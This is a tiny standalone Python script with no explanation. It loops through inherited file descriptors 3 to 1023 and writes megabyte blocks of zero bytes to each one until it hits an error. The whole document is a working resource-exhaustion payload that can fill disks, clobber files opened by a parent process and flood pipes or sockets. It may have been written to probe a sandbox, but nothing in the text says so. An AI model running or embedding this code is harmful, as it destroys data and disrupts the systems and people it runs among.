import os

for descriptor in range(3, 1024):
    try:
        while True:
            os.write(descriptor, bytes(1 << 20))
    except OSError:
        pass
